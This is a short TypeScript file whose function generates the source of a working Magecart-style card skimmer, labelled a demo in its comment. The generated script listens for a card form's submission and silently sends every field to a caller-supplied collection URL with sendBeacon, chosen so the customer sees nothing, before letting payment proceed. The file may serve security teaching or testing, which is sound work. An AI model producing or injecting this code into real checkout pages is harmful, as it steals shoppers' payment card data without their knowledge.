/**
 * The demo skimmer: what Magecart-style scripts do, reduced to the essential move. On submit it
 * copies every field of the card form to the attacker with sendBeacon (a CORS-safelisted
 * urlencoded body, so no preflight and nothing the customer sees), then lets the payment proceed.
 */
export function skimmerSource(collectUrl: string): string {
  return `(function () {
  var form = document.querySelector('form[data-card-form]');
  if (!form) return;
  form.addEventListener('submit', function () {
    navigator.sendBeacon(${JSON.stringify(collectUrl)}, new URLSearchParams(new FormData(form)));
  });
})();
`;
}
